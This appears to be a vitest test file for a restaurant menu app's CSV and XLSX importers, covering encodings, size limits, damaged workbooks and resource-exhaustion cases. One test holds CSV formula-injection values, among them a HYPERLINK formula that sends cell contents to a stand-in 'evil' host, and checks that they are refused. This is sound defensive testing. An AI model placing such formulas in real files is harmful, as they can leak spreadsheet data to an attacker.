import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { exportMapping, FILE_LIMITS, readCatalogue, readMappingFile } from '../../electron/core/files';
import type { Item } from '../../shared/domain/item';
import type { ImportReport } from '../../shared/domain/mapping';
import { fuzzReader } from '../unit/files/fuzz-properties';
import { rawXlsx, sheetXml } from '../unit/files/helpers';
import { ok, startTestCore, type TestCore } from './support/core';
import { FUZZ_RUNS, FUZZ_SEED, recordFigures } from './support/fuzz-figures';

/**
 * The file importers against bad input. Two halves:
 * - properties (the files engineer's generators, test/unit/files/fuzz-properties.ts, run here with
 *   MCM_FUZZ_RUNS cases): CSV-like text in every encoding and dialect, random bytes, fake magic
 *   numbers and mutated workbooks; each read ends in rows or a bad_file refusal with a message;
 * - fixed cases at the product's boundary (mapping.importFile and catalogue.import through
 *   dispatch, as the renderer sends them): wrong encodings, BOMs, Excel's semicolon CSV, formulas,
 *   1 MB cells, 200,000 rows; each accepted with the right figures or refused with a message that
 *   says what to do.
 * The 200,000-row XLSX (about 1 GB in exceljs) runs in `npm run soak` (MCM_BIG_FILES=1).
 */

let seeds: Uint8Array[] = [];
let app: TestCore;
let items: Item[] = [];

beforeAll(async () => {
  seeds = await Promise.all([
    exportMapping(
      [{ itemId: 1, itemNo: '100', name: 'Adana Dürüm', integrationCode: 'ADK1', extra: {} }],
      new Set(),
      'xlsx',
    ),
    xlsx([
      ['Ürün Kodu', 'Ürün Adı', 'Grup', 'ItemId', 'IntegrationCode'],
      [1001, { richText: [{ text: 'Künefe' }] }, { formula: 'A1', result: 'Tatlı' }, 1, 'C1'],
    ]),
  ]);
  app = await startTestCore({
    keepEvents: false,
    demoOptions: { branches: 1, itemsPerBranch: 30, historyDays: 1 },
  });
  ok(await app.call('demo.start'));
  items = ok<{ items: Item[] }>(await app.call('items.load', { branch: 'B01' })).items;
}, 120_000);

afterAll(async () => {
  await app?.close();
});

const timeout = Math.max(60_000, FUZZ_RUNS * 60);

describe('properties: whatever the bytes, rows or a clear refusal', () => {
  test(
    `readMappingFile, ${FUZZ_RUNS} generated files`,
    async () => {
      const tally = await fuzzReader(readMappingFile, {
        runs: FUZZ_RUNS,
        xlsxSeeds: seeds,
        ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }),
        checkResult: (rows) => {
          for (const r of rows)
            expect(r.integrationCode === null || typeof r.integrationCode === 'string').toBe(true);
        },
      });
      expect(tally.resolved).toBeGreaterThan(0);
      expect(tally.refused).toBeGreaterThan(0);
      recordFigures('files', 'readMappingFile', { runs: FUZZ_RUNS, ...tally });
    },
    timeout,
  );

  test(
    `readCatalogue, ${FUZZ_RUNS} generated files`,
    async () => {
      const tally = await fuzzReader(readCatalogue, {
        runs: FUZZ_RUNS,
        xlsxSeeds: seeds,
        ...(FUZZ_SEED === undefined ? {} : { seed: FUZZ_SEED }),
        checkResult: (products) => {
          for (const p of products) expect(p.code !== '' && p.name !== '').toBe(true);
        },
      });
      expect(tally.resolved).toBeGreaterThan(0);
      expect(tally.refused).toBeGreaterThan(0);
      recordFigures('files', 'readCatalogue', { runs: FUZZ_RUNS, ...tally });
    },
    timeout,
  );
});

// ------------------------------------------------------------------ fixed cases at the boundary

const utf8 = (s: string) => new TextEncoder().encode(s);
const BOM = new Uint8Array([0xef, 0xbb, 0xbf]);
const join = (...parts: Uint8Array[]) => {
  const out = new Uint8Array(parts.reduce((n, p) => n + p.length, 0));
  let at = 0;
  for (const p of parts) {
    out.set(p, at);
    at += p.length;
  }
  return out;
};
const CP1254: Record<string, number> = {
  Ç: 0xc7,
  ç: 0xe7,
  Ğ: 0xd0,
  ğ: 0xf0,
  İ: 0xdd,
  ı: 0xfd,
  Ö: 0xd6,
  ö: 0xf6,
  Ş: 0xde,
  ş: 0xfe,
  Ü: 0xdc,
  ü: 0xfc,
};
const windows1254 = (s: string) => new Uint8Array([...s].map((c) => CP1254[c] ?? c.charCodeAt(0)));
const utf16le = (s: string, bom: boolean) => {
  const out = new Uint8Array((bom ? 2 : 0) + s.length * 2);
  if (bom) out.set([0xff, 0xfe]);
  for (let i = 0; i < s.length; i++)
    out.set([s.charCodeAt(i) & 0xff, s.charCodeAt(i) >> 8], (bom ? 2 : 0) + i * 2);
  return out;
};

async function xlsx(rows: ExcelJS.CellValue[][]): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook();
  const sheet = wb.addWorksheet('Data');
  for (const r of rows) sheet.addRow(r);
  return new Uint8Array(await wb.xlsx.writeBuffer());
}

const file = (bytes: Uint8Array, fileName: string) => ({
  fileName,
  mimeType: fileName.endsWith('.xlsx')
    ? 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet'
    : 'text/csv',
  base64: Buffer.from(bytes).toString('base64'),
});

async function importMapping(bytes: Uint8Array, fileName: string) {
  return app.call('mapping.importFile', { branch: 'B01', file: file(bytes, fileName) });
}

function expectRefusal(reply: Awaited<ReturnType<typeof importMapping>>, code: string, message: RegExp) {
  expect(reply.ok).toBe(false);
  if (reply.ok) return;
  expect(reply.error.code).toBe(code);
  expect(reply.error.message).toMatch(message);
}

/** A mapping of the first three items, with Turkish text in the Name column. */
function rows(sep = ','): string {
  const [a, b, c] = items;
  return [
    ['ItemId', 'Name', 'IntegrationCode'].join(sep),
    [a?.itemId, 'Çiğ Köfte Dürüm', 'CK1'].join(sep),
    [b?.itemId, 'Şiş İçli Köfte', 'SI2'].join(sep),
    [c?.itemId, 'Güllaç', 'GU3'].join(sep),
  ].join('\r\n');
}

describe('fixed files through mapping.importFile and catalogue.import', () => {
  test.each([
    ['UTF-8 with BOM', () => join(BOM, utf8(rows()))],
    ['UTF-8 without BOM', () => utf8(rows())],
    ['Windows-1254 (Excel "CSV" on Turkish Windows)', () => windows1254(rows())],
    ['UTF-16 LE with BOM ("Unicode Text")', () => utf16le(rows('\t'), true)],
    ['UTF-16 LE without BOM', () => utf16le(rows('\t'), false)],
    ["Excel's semicolon CSV", () => join(BOM, utf8(rows(';')))],
    ['semicolon CSV with a "sep=;" line', () => utf8(`sep=;\n${rows(';')}`)],
  ])('%s: three codes to set', async (_name, bytes) => {
    const report = ok<ImportReport>(await importMapping(bytes(), 'mapping.csv'));
    expect(report).toMatchObject({
      rowsRead: 3,
      matched: 3,
      wouldSet: expect.any(Number),
      invalid: [],
      unknown: [],
    });
    expect(report.edits.map((e) => e.code)).toEqual(['CK1', 'SI2', 'GU3']);
  });

  test('formulas: as codes they are refused with the row; in XLSX their cached result is read', async () => {
    const [a, b, c] = items;
    const csv = utf8(
      `ItemId,IntegrationCode\n${a?.itemId},=HYPERLINK("http://evil/?"&A1)\n${b?.itemId},+cmd\n${c?.itemId},@SUM(A1)\n`,
    );
    const report = ok<ImportReport>(await importMapping(csv, 'formulas.csv'));
    expect(report.edits).toEqual([]);
    expect(report.invalid.map((i) => i.row)).toEqual([2, 3, 4]);
    expect(report.invalid.every((i) => /Only letters A-Z and digits 0-9/.test(i.reason))).toBe(true);
    const book = await xlsx([
      ['ItemId', 'IntegrationCode'],
      [a?.itemId ?? 0, { formula: 'CONCAT("F","1")', result: 'F1' }],
    ]);
    const fromXlsx = ok<ImportReport>(await importMapping(book, 'formulas.xlsx'));
    expect(fromXlsx.edits).toEqual([{ itemId: a?.itemId, code: 'F1' }]);
  });

  test('a 1 MB cell is read; one byte more is refused naming the row and column (CSV and XLSX)', async () => {
    const [a] = items;
    const big = (n: number) => utf8(`ItemId,IntegrationCode,Name\n${a?.itemId},OK1,${'x'.repeat(n)}\n`);
    expect(ok<ImportReport>(await importMapping(big(FILE_LIMITS.maxCellBytes), 'big.csv')).matched).toBe(1);
    expectRefusal(
      await importMapping(big(FILE_LIMITS.maxCellBytes + 1), 'big.csv'),
      'bad_file',
      /row 2, column C/,
    );
    const book = await xlsx([
      ['ItemId', 'IntegrationCode', 'Name'],
      [a?.itemId ?? 0, 'OK1', 'ü'.repeat(FILE_LIMITS.maxCellBytes / 2 + 1)],
    ]);
    expectRefusal(await importMapping(book, 'big.xlsx'), 'bad_file', /row 2/);
  });

  test('200,000 rows are read (each reported), 200,001 are refused with what to do', async () => {
    const body = (n: number) => {
      const lines = ['ItemId,ItemNo,IntegrationCode'];
      for (let i = 0; i < n; i++) lines.push(`${9_000_000 + i},,C${i}`);
      return utf8(lines.join('\n'));
    };
    const report = ok<ImportReport>(await importMapping(body(FILE_LIMITS.maxDataRows), 'all.csv'));
    expect(report.rowsRead).toBe(200_000);
    expect(report.unknown).toHaveLength(200_000);
    expect(report.edits).toEqual([]);
    expectRefusal(
      await importMapping(body(FILE_LIMITS.maxDataRows + 1), 'all.csv'),
      'bad_file',
      /"all\.csv" has 200,001 rows; at most 200,000 can be read at once\. Split it into smaller files\./,
    );
  }, 120_000);

  test.skipIf(!process.env.MCM_BIG_FILES)(
    '200,000 rows of XLSX are read (soak only: ~1 GB in exceljs)',
    async () => {
      const wb = new ExcelJS.Workbook();
      const sheet = wb.addWorksheet('Data');
      sheet.addRow(['ItemId', 'ItemNo', 'IntegrationCode']);
      for (let i = 0; i < FILE_LIMITS.maxDataRows; i++) sheet.addRow([9_000_000 + i, `N${i}`, `C${i}`]);
      const bytes = new Uint8Array(await wb.xlsx.writeBuffer());
      const report = ok<ImportReport>(await importMapping(bytes, 'all.xlsx'));
      expect(report.rowsRead).toBe(200_000);
      recordFigures('files', 'xlsx-200000-rows', { bytes: bytes.length, rowsRead: report.rowsRead });
    },
    600_000,
  );

  test('refusals name the problem: empty, legacy .xls, a text file called .xlsx, a damaged workbook, no columns', async () => {
    expectRefusal(await importMapping(new Uint8Array(), 'empty.csv'), 'bad_file', /is empty/);
    const ole = new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0, 0, 0]);
    expectRefusal(
      await importMapping(ole, 'old.xls'),
      'bad_file',
      /Excel 97-2003 workbook .* save it as "Excel Workbook \(\.xlsx\)"/,
    );
    expectRefusal(
      await importMapping(utf8('ItemId,Code\n1,A\n'), 'named.xlsx'),
      'bad_file',
      /named like an Excel workbook but is not one/,
    );
    const good = await xlsx([
      ['ItemId', 'IntegrationCode'],
      [1, 'A'],
    ]);
    expectRefusal(
      await importMapping(good.subarray(0, good.length - 50), 'cut.xlsx'),
      'bad_file',
      /is not a readable XLSX workbook \(/,
    );
    expectRefusal(
      await importMapping(utf8('Product;Price\nAyran;10\n'), 'prices.csv'),
      'bad_file',
      /is not a mapping file: it needs an ItemId or ItemNo column and an IntegrationCode column/,
    );
    // The bridge's own limit for what a page may send is above the importer's 50 MB: the importer says it.
    const huge = new Uint8Array(FILE_LIMITS.maxFileBytes + 1).fill(0x41);
    expectRefusal(await importMapping(huge, 'huge.csv'), 'bad_file', /files up to 50 MB can be read/);
  });

  test('workbooks that walked around the cell count (issue 34) are refused at the real limits', async () => {
    const refusal = (reply: Awaited<ReturnType<typeof importMapping>>) => {
      expect(reply.ok).toBe(false);
      return reply.ok ? null : reply.error;
    };
    // One cell more than the limit, each written `<c` + newline + `/>` (a cell to exceljs).
    const cells = (gap: string) => {
      const perRow = 1_000;
      const row = `<c${gap}/>`.repeat(perRow);
      const rows: string[] = [];
      for (let r = 1; r * perRow <= FILE_LIMITS.maxCells + perRow; r++)
        rows.push(`<row r="${r}">${row}</row>`);
      return sheetXml(rows.join(''));
    };
    expect(refusal(await importMapping(rawXlsx(cells('\n')), 'newline.xlsx'))).toMatchObject({
      code: 'bad_file',
      messageId: 'file.tooManyCells',
      params: { max: FILE_LIMITS.maxCells },
    });
    const elsewhere = rawXlsx(cells(' '), { sheetPath: 'x/xl/worksheets/sheet1.xml' });
    expect(refusal(await importMapping(elsewhere, 'elsewhere.xlsx'))).toMatchObject({
      messageId: 'file.tooManyCells',
    });
    const strings = {
      name: 'xl/sharedStrings.xml',
      data: `<sst>${'<si><t>a</t></si>'.repeat(FILE_LIMITS.maxSharedStrings + 1)}</sst>`,
    };
    const one = sheetXml('<row r="1"><c r="A1" t="s"><v>0</v></c></row>');
    const tiny = rawXlsx(one, { extra: [strings] });
    expect(tiny.length).toBeLessThan(1024 * 1024);
    const said = refusal(await importMapping(tiny, 'strings.xlsx'));
    expect(said).toMatchObject({
      messageId: 'file.tooManyTexts',
      params: { max: FILE_LIMITS.maxSharedStrings },
    });
    expect(said?.message).toMatch(/keep only the columns needed, split it, or save it as CSV/);
  }, 120_000);

  test('the catalogue importer: Turkish semicolon Windows-1254 read, 200,001 rows and no columns refused', async () => {
    const cat = windows1254('Ürün Kodu;Ürün Adı;Grup\nP1;Adana Dürüm;Kebap\nP2;Şalgam;İçecek\n');
    const read = ok<{ products: number }>(
      await app.call('catalogue.import', { file: file(cat, 'katalog.csv') }),
    );
    expect(read.products).toBe(2);
    const many = (n: number) => {
      const lines = ['Code,Name'];
      for (let i = 0; i < n; i++) lines.push(`P${i},Product ${i}`);
      return utf8(lines.join('\n'));
    };
    expect(
      ok<{ products: number }>(await app.call('catalogue.import', { file: file(many(200_000), 'cat.csv') }))
        .products,
    ).toBe(200_000);
    expectRefusal(
      await app.call('catalogue.import', { file: file(many(200_001), 'cat.csv') }),
      'bad_file',
      /has 200,001 rows; at most 200,000/,
    );
    expectRefusal(
      await app.call('catalogue.import', { file: file(utf8('a,b\n1,2\n'), 'x.csv') }),
      'bad_file',
      /is not a product catalogue: it needs a code column and a name column/,
    );
  }, 120_000);
});
